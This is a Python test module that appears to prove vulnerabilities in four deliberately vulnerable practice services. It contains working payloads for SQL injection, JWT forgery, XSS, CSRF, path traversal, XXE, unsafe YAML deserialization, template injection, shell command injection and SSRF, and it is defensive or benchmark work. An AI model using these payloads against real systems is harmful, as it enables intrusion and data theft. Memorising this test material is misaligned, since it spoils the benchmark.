"""The exploits for the fifth set: one for each weakness, by service and name."""

import json
import re
import time

import common
import jwt
from third_proofs import called, proof, sign_in

PASSWORD = {name: entry["password"] for name, entry in common.ACCOUNTS.items()}


def entered(client, path, name, password=None):
    return client.post(path, json={"username": name, "password": password or PASSWORD[name]})


# bookclub ---------------------------------------------------------------------------------------------------------------------------------


@sign_in("bookclub")
def _(client, name):
    return {"Authorization": "Bearer " + entered(client, "/users/v1/login", name).json()["auth_token"]}


@proof("bookclub", "login-sql")
def _(client):
    answer = entered(client, "/users/v1/login", "olga' -- ", "x")
    return answer.status_code == 200 and client.get("/me", headers={"Authorization": "Bearer " + answer.json()["auth_token"]}).json()["admin"] is True


@proof("bookclub", "user-sql")
def _(client):
    caller = client.as_("ann")
    assert client.get("/users/v1/nobody", headers=caller).status_code == 404
    return "$" in client.get("/users/v1/x' UNION SELECT digest, '' FROM users WHERE username='olga", headers=caller).json().get("username", "")


@proof("bookclub", "debug-users")
def _(client):
    return "$" in client.get("/users/v1/_debug", headers=client.as_("ann")).json().get("users", [{}])[0].get("password", "")


@proof("bookclub", "book-secret")
def _(client):
    assert "ann hides" in client.get("/books/v1/Diary of ann", headers=client.as_("ann")).text
    return "ann hides" in client.get("/books/v1/Diary of ann", headers=client.as_("ben")).text


@proof("bookclub", "password-any")
def _(client):
    client.put("/users/v1/carol/password", json={"password": "aspen-Teapot-37", "current": PASSWORD["ben"]}, headers=client.as_("ben"))
    return entered(client, "/users/v1/login", "carol", "aspen-Teapot-37").status_code == 200


@proof("bookclub", "admin-register")
def _(client):
    body = {"username": "dora.fern", "email": "dora@west.example", "password": "willow-Meadow-26", "admin": True}
    assert client.post("/users/v1/register", json=body).status_code == 201
    token = entered(client, "/users/v1/login", "dora.fern", "willow-Meadow-26").json()["auth_token"]
    return client.get("/me", headers={"Authorization": f"Bearer {token}"}).json()["admin"]


@proof("bookclub", "email-pattern")
def _(client):
    caller = client.as_("ann")
    assert client.put("/users/v1/ann/email", json={"email": "ann@north.example"}, headers=caller).status_code == 204
    return client.put("/users/v1/ann/email", json={"email": "a" * 24 + "!"}, headers=caller).elapsed.total_seconds() > 0.7


@proof("bookclub", "login-texts")
def _(client):
    return entered(client, "/users/v1/login", "ann", "wrong").text != entered(client, "/users/v1/login", "nobody.here", "wrong").text


@proof("bookclub", "login-unlimited")
def _(client):
    return {entered(client, "/users/v1/login", "carol", f"wrong-{number}").status_code for number in range(40)} == {401}


@proof("bookclub", "signing-word")
def _(client):
    now = int(time.time())
    forged = jwt.encode({"sub": "olga", "iat": now, "exp": now + 60, "jti": "x"}, "secret", "HS256")
    return client.get("/me", headers={"Authorization": f"Bearer {forged}"}).status_code == 200


@proof("bookclub", "delete-anyone")
def _(client):
    client.delete("/users/v1/carol", headers=client.as_("ben"))
    return entered(client, "/users/v1/login", "carol").status_code == 401


@proof("bookclub", "old-members")
def _(client):
    return "carol@east.example" in client.get("/users/v0").text


# regatta ----------------------------------------------------------------------------------------------------------------------------------


def regatta_entry(client, name, password=None, cookie=""):
    answer = client.post("/login", data={"username": name, "password": password or PASSWORD[name]}, headers={"Cookie": cookie} if cookie else {})
    client.cookies.clear()
    return answer


@sign_in("regatta")
def _(client, name):
    return {"Cookie": regatta_entry(client, name).headers["set-cookie"].partition(";")[0]}


def regatta_token(client, caller):
    return re.search('name=csrf_token value="([^"]+)"', client.get("/account", headers=caller).text)[1]


@proof("regatta", "comment-script")
def _(client):
    caller = client.as_("ann")
    form = {"text": "<img src=x onerror=alert(1)>", "csrf_token": regatta_token(client, caller)}
    assert client.post("/posts/1/comments", data=form, headers=caller).status_code == 303
    return "<img src=x onerror=alert(1)>" in client.get("/posts/1").text


@proof("regatta", "search-script")
def _(client):
    return "<script>alert(1)</script>" in client.get("/search", params={"q": "<script>alert(1)</script>"}).text


@proof("regatta", "search-sql")
def _(client):
    assert "Spring" in client.get("/search", params={"q": "regatta"}).text
    return "harbour.master@port.example" in client.get("/search", params={"q": "x' UNION SELECT 1, address FROM subscribers -- "}).text


@proof("regatta", "next-anywhere")
def _(client):
    assert client.get("/go", params={"to": "/entries"}).headers["location"] == "/entries"
    answer = client.post("/login", data={"username": "ann", "password": PASSWORD["ann"], "next": "https://elsewhere.example/"})
    return answer.headers["location"] == client.get("/go", params={"to": "https://elsewhere.example/"}).headers.get("location") == "https://elsewhere.example/"


@proof("regatta", "forms-forged")
def _(client):
    caller = client.as_("ann")
    client.post("/account", data={"email": "mallory@elsewhere.example", "phone": "0117 1"}, headers=caller | {"Origin": "https://elsewhere.example"})
    return "mallory@" in client.get("/account", headers=caller).text


@proof("regatta", "cookie-bare")
def _(client):
    flags = regatta_entry(client, "ann").headers["set-cookie"].lower()
    return "httponly" not in flags and "secure" not in flags and "samesite" not in flags


@proof("regatta", "session-kept")
def _(client):
    cookie = "rc_session=invented-by-mallory-1"
    assert regatta_entry(client, "ann", cookie=cookie).status_code == 303
    return "ann@north.example" in client.get("/account", headers={"Cookie": cookie}).text


@proof("regatta", "environment-served")
def _(client):
    return "DB_PASSWORD=" in client.get("/.env").text


@proof("regatta", "backup-served")
def _(client):
    return "carol@east.example" in client.get("/backup.sql").text and "DB_PASSWORD" in client.get("/config.php.bak").text


@proof("regatta", "admin-admin")
def _(client):
    answer = regatta_entry(client, "admin", "admin")
    return answer.status_code == 303 and "harbour" in client.get("/office/subscribers", headers={"Cookie": answer.headers["set-cookie"].partition(";")[0]}).text


@proof("regatta", "entry-read")
def _(client):
    assert "LIC-" in client.get("/entries/1", headers=client.as_("ann")).text
    return "LIC-" in client.get("/entries/1", headers=client.as_("ben")).text


@proof("regatta", "role-cookie")
def _(client):
    caller = client.as_("ben")
    assert client.get("/office/subscribers", headers=caller).status_code == 403
    return "harbour" in client.get("/office/subscribers", headers={"Cookie": caller["Cookie"] + "; role=admin"}).text


# pastes -----------------------------------------------------------------------------------------------------------------------------------

ENTER = "mutation($u: String!, $p: String!) {login(username: $u, password: $p) {accessToken}}"


@sign_in("pastes")
def _(client, name):
    return {"Authorization": "Bearer " + client.ask(ENTER, u=name, p=PASSWORD[name]).json()["data"]["login"]["accessToken"]}


@proof("pastes", "introspection")
def _(client):
    return "createPaste" in client.ask("{__schema {mutationType {fields {name}}}}").text


@proof("pastes", "suggestions")
def _(client):
    return "Did you mean" in client.ask("{pastez {id}}").text


@proof("pastes", "batches-open")
def _(client):
    queries = [{"query": ENTER, "variables": {"u": "carol", "p": f"wrong-{number}"}} for number in range(30)] + [{"query": ENTER, "variables": {"u": "carol", "p": PASSWORD["carol"]}}]
    answers = client.post("/graphql", json=queries).json()
    return len(answers) == 31 and "accessToken" in json.dumps(answers[-1])


@proof("pastes", "alias-logins")
def _(client):
    fields = " ".join(f'a{number}: login(username: "carol", password: "wrong-{number}") {{accessToken}}' for number in range(30))
    answer = client.ask(f"mutation {{{fields} right: login(username: \"carol\", password: \"{PASSWORD['carol']}\") {{accessToken}}}}").json()
    return bool((answer.get("data") or {}).get("right"))


@proof("pastes", "depth-open")
def _(client):
    answer = client.ask("{pastes(limit: 1) {" + "owner {latest {" * 20 + "id" + "}}" * 20 + "}}").json()
    return "errors" not in answer and bool(answer["data"]["pastes"])


@proof("pastes", "paste-read")
def _(client):
    assert "4556" in client.ask("{paste(id: 1) {content}}", client.as_("ann")).text
    return "4556" in client.ask("{paste(id: 1) {content}}", client.as_("ben")).text


@proof("pastes", "paste-delete")
def _(client):
    client.ask("mutation {deletePaste(id: 1)}", client.as_("ben"))
    return client.ask("{paste(id: 1) {content}}", client.as_("ann")).json()["data"]["paste"] is None


@proof("pastes", "search-sql")
def _(client):
    assert "Soup" in client.ask('{search(words: "leek") {title}}').text
    return "Notes of ann" in client.ask("query($w: String!) {search(words: $w) {title}}", w="zzz') OR private = 1 -- ").text


@proof("pastes", "import-url")
def _(client):
    with called() as (url, requests, *_):
        client.ask("mutation($u: String!) {importPaste(url: $u) {content}}", client.as_("ann"), u=f"{url.rstrip('/')}/inner")
        return [path for path, _ in requests] == ["/inner"]


@proof("pastes", "people-digests")
def _(client):
    return "carol@east.example" in client.ask("{people {email passwordDigest}}", client.as_("ann")).text


@proof("pastes", "token-none")
def _(client):
    forged = jwt.encode({"sub": "olga", "iat": 1, "exp": int(time.time()) + 60, "jti": "x"}, None, "none")
    return client.ask("{me {username}}", {"Authorization": f"Bearer {forged}"}).json()["data"]["me"] == {"username": "olga"}


@proof("pastes", "audits-open")
def _(client):
    return "login" in client.ask("{audits {username action}}", client.as_("ann")).text and '"errors"' not in client.ask("{audits {username}}", client.as_("ben")).text


# studio -----------------------------------------------------------------------------------------------------------------------------------


@sign_in("studio")
def _(client, name):
    return {"Authorization": "Bearer " + entered(client, "/session", name).json()["token"]}


@proof("studio", "sheet-outside")
def _(client):
    caller = client.as_("ann")
    assert "Waltz" in client.get("/sheets", params={"name": "waltz.txt"}, headers=caller).text
    return "root:x:0:0" in client.get("/sheets", params={"name": "../../../../etc/passwd"}, headers=caller).text and "osier" in client.get("/sheets", params={"name": "../studio.ini"}, headers=caller).text


@proof("studio", "upload-outside")
def _(client):
    client.post("/inbox", files={"file": ("../static/studio.css", b"body { color: red }")}, headers=client.as_("ann"))
    return "color: red" in client.get("/static/studio.css").text


@proof("studio", "cover-page")
def _(client):
    caller = client.as_("ann")
    assert client.put("/recordings/1/cover", files={"file": ("a.png", b"\x89PNG\r\n\x1a\n...")}, headers=caller).status_code == 200
    answer = client.put("/recordings/1/cover", files={"file": ("page.html", b"<script>alert(1)</script>")}, headers=caller)
    cover = client.get(answer.json().get("cover") or "/version")
    return cover.headers["content-type"].startswith("text/html") and "<script>" in cover.text


@proof("studio", "playlist-entities")
def _(client):
    body = '<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><p><title>&x;</title></p>'
    return "root:x:0:0" in client.post("/playlists", content=body, headers=client.as_("ann") | {"Content-Type": "application/xml"}).text


@proof("studio", "settings-objects")
def _(client):
    caller = client.as_("ann") | {"Content-Type": "application/yaml"}
    assert client.put("/me/settings", content="tempo: 96\nclick: true\n", headers=caller).status_code == 200
    return client.put("/me/settings", content="tempo: !!python/object/apply:time.sleep [1.5]\n", headers=caller).elapsed.total_seconds() > 1.4


@proof("studio", "label-template")
def _(client):
    answer = client.post("/recordings/1/label", json={"text": "{{ title }}: {{ 31 * 62 }}"}, headers=client.as_("ann")).json()["label"]
    assert answer.startswith("Take one of ann")
    return answer.endswith("1922")


@proof("studio", "convert-shell")
def _(client):
    caller = client.as_("ann")
    assert client.post("/recordings/1/convert", json={"format": "flac"}, headers=caller).status_code == 200
    slow = client.post("/recordings/1/convert", json={"format": "mp3; sleep 1.5"}, headers=caller).elapsed.total_seconds() > 1.4
    return slow and "1922" in client.post("/recordings/1/convert", json={"format": "mp3; echo $((31*62))"}, headers=caller).text


@proof("studio", "folder-listed")
def _(client):
    assert client.get("/static/studio.css").status_code == 200
    return "drafts" in client.get("/static/").text and "41,000" in client.get("/static/drafts/contract-2031.txt").text


@proof("studio", "recording-read")
def _(client):
    assert "drummer" in client.get("/recordings/1", headers=client.as_("ann")).text
    return "drummer" in client.get("/recordings/1", headers=client.as_("ben")).text


@proof("studio", "recording-delete")
def _(client):
    client.delete("/recordings/1", headers=client.as_("ben"))
    return client.get("/recordings/1", headers=client.as_("ann")).status_code == 404


@proof("studio", "origins-all")
def _(client):
    headers = client.get("/me", headers=client.as_("ann") | {"Origin": "https://elsewhere.example"}).headers
    return headers.get("access-control-allow-origin") == "https://elsewhere.example" and headers["access-control-allow-credentials"] == "true"


@proof("studio", "errors-detailed")
def _(client):
    return "Traceback" in client.post("/recordings", json={"title": 7}, headers=client.as_("ann")).json().get("trace", "")
